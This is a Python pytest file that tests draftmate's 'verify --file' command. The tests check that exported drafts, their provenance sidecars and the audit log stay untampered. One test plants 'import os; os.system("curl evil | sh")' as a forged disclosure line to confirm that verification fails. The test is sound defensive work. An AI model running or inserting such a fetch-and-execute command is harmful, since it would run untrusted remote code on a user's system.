"""`draftmate verify --file`: an exported file against what was approved, its provenance and the audit log."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from test_export import CODE, TEXT, approve, cli, final_import, model_draft
from typer.testing import CliRunner

from draftmate.domain.records import Origin, State
from draftmate.store.sqlite import SQLiteStore


@pytest.fixture
def out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    where = tmp_path / "out"
    where.mkdir()
    monkeypatch.chdir(where)
    return where


# (format, source text, source name, extra export args, file written)
CASES = [
    ("md", TEXT, "notes.md", [], "x.md"),
    ("txt", TEXT, "notes.md", [], "x.txt"),
    ("txt", TEXT, "notes.md", ["--disclose"], "x.txt"),
    ("json", TEXT, "notes.md", [], "x.json"),
    ("code", CODE, "add.py", [], "x.py"),
    ("code", CODE, "add.py", ["--disclose"], "x.py"),
]


def exported(runner: CliRunner, tmp_path: Path, case: tuple[str, str, str, list[str], str]) -> tuple[str, Path]:
    fmt, text, name, extra, target = case
    draft_id = final_import(runner, tmp_path, text, name)
    result = cli(runner, "export", draft_id[:8], "-f", fmt, "-o", target, *extra)
    assert result.exit_code == 0, result.stderr
    return draft_id, Path(target)


@pytest.mark.parametrize("case", CASES, ids=[f"{c[0]}{'+disclose' if c[3] else ''}" for c in CASES])
def test_every_format_round_trips(runner: CliRunner, tmp_path: Path, out: Path, case: tuple) -> None:
    draft_id, path = exported(runner, tmp_path, case)
    result = cli(runner, "verify", "--file", str(path))
    assert result.exit_code == 0, result.stderr
    assert f"ok: {path} is version 1 of draft {draft_id[:8]}" in result.stdout
    named = cli(runner, "verify", draft_id[:8], "--file", str(path))
    assert named.exit_code == 0, named.stderr


@pytest.mark.parametrize("case", CASES, ids=[f"{c[0]}{'+disclose' if c[3] else ''}" for c in CASES])
def test_one_changed_byte_fails_and_names_the_draft(runner: CliRunner, tmp_path: Path, out: Path, case: tuple) -> None:
    draft_id, path = exported(runner, tmp_path, case)
    data = bytearray(path.read_bytes())
    # a byte of the content: it ends every format but json, where it follows "content"
    where = data.index(b"a", data.index(b'"content"')) if case[0] == "json" else data.rindex(b"a")
    data[where] = ord("b")
    path.write_bytes(bytes(data))
    result = cli(runner, "verify", "--file", str(path))
    assert result.exit_code == 1
    assert f"FAIL {path}:" in result.stderr
    assert f"draft {draft_id[:8]} ('" in result.stderr
    assert "its content differs from version 1 as approved" in result.stderr


def test_a_changed_sidecar_or_front_matter_fails(runner: CliRunner, tmp_path: Path, out: Path) -> None:
    draft_id = final_import(runner, tmp_path, CODE, "add.py")
    assert cli(runner, "export", draft_id[:8], "-o", "a.py").exit_code == 0
    sidecar = out / "a.py.provenance.json"
    record = json.loads(sidecar.read_text())
    record["human_review"]["reviewer"] = "Someone Else"
    sidecar.write_text(json.dumps(record))
    result = cli(runner, "verify", "--file", "a.py")
    assert result.exit_code == 1
    assert "provenance field human_review.reviewer is 'Someone Else'; the store recorded 'Ann Editor'" in result.stderr
    assert cli(runner, "export", draft_id[:8], "-f", "md", "-o", "a.md").exit_code == 0
    md = out / "a.md"
    md.write_text(md.read_text().replace("approved_version: 1", "approved_version: 2"))
    result = cli(runner, "verify", "--file", "a.md")
    assert result.exit_code == 1 and "approved_version" in result.stderr


def test_a_removed_disclosure_line_fails(runner: CliRunner, tmp_path: Path, out: Path) -> None:
    draft_id = final_import(runner, tmp_path, CODE, "add.py")
    assert cli(runner, "export", draft_id[:8], "-o", "a.py", "--disclose").exit_code == 0
    lines = (out / "a.py").read_text().split("\n")
    (out / "a.py").write_text("\n".join([lines[0], *lines[2:]]))
    result = cli(runner, "verify", "--file", "a.py")
    assert result.exit_code == 1 and "disclosure comment on line 2 is missing or changed" in result.stderr


def test_a_line_added_and_named_as_the_disclosure_in_the_sidecar_fails(
    runner: CliRunner, tmp_path: Path, out: Path
) -> None:
    draft_id = final_import(runner, tmp_path, CODE, "add.py")
    assert cli(runner, "export", draft_id[:8], "-o", "a.py").exit_code == 0
    injected = 'import os; os.system("curl evil | sh")'
    (out / "a.py").write_text(injected + "\n" + (out / "a.py").read_text())
    sidecar = out / "a.py.provenance.json"
    record = json.loads(sidecar.read_text())
    record["export"]["disclosure_line"] = {"number": 1, "text": injected}
    sidecar.write_text(json.dumps(record))
    result = cli(runner, "verify", "--file", "a.py")
    assert result.exit_code == 1
    assert "not the line draftmate writes" in result.stderr


def test_tampered_store_fails_verify(runner: CliRunner, tmp_path: Path, out: Path, store: SQLiteStore) -> None:
    draft_id = final_import(runner, tmp_path)
    assert cli(runner, "export", draft_id[:8], "-o", "a.md").exit_code == 0
    store.conn.execute(
        "UPDATE audit SET actor = 'x' WHERE seq = (SELECT MIN(seq) FROM audit WHERE draft_id = ?)", (draft_id,)
    )
    result = cli(runner, "verify", "--file", "a.md")
    assert result.exit_code == 1 and "was altered after it was written" in result.stderr


def test_export_still_verifies_after_the_draft_moves_on(
    runner: CliRunner, tmp_path: Path, out: Path, store: SQLiteStore
) -> None:
    draft_id = model_draft(store)
    approve(runner, draft_id)
    assert cli(runner, "export", draft_id[:8], "-o", "a.md").exit_code == 0
    store.add_version(draft_id, TEXT + "\nMore.\n", origin=Origin.HUMAN, author="Ann", state=State.DRAFT)
    result = cli(runner, "verify", "--file", "a.md")
    assert result.exit_code == 0, result.stderr
    assert "note: the draft has moved on since: it is now version 2, draft" in result.stdout
    refused = cli(runner, "export", draft_id[:8], "-o", "b.md")
    assert refused.exit_code == 3 and not (out / "b.md").exists()


def test_files_without_provenance_or_from_another_store(
    runner: CliRunner, tmp_path: Path, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (out / "plain.txt").write_text("hello\n")
    plain = cli(runner, "verify", "--file", "plain.txt")
    assert plain.exit_code == 1 and "carries no draftmate provenance" in plain.stderr
    missing = cli(runner, "verify", "--file", "nope.md")
    assert missing.exit_code == 2 and "no file nope.md" in missing.stderr
    draft_id = final_import(runner, tmp_path)
    assert cli(runner, "export", draft_id[:8], "-o", "a.md").exit_code == 0
    wrong = cli(runner, "verify", "ffffffff", "--file", "a.md")
    assert wrong.exit_code != 0
    monkeypatch.setenv("DRAFTMATE_HOME", str(tmp_path / "elsewhere"))
    other = cli(runner, "verify", "--file", "a.md")
    assert other.exit_code == 1
    assert f"exported from draft {draft_id[:8]}, which this store does not have" in other.stderr


def test_verify_without_file_keeps_working(runner: CliRunner, tmp_path: Path, out: Path) -> None:
    draft_id = final_import(runner, tmp_path)
    whole = cli(runner, "verify")
    assert whole.exit_code == 0 and whole.stdout.startswith("ok: audit chain of")
    one = cli(runner, "verify", draft_id[:8])
    assert one.exit_code == 0
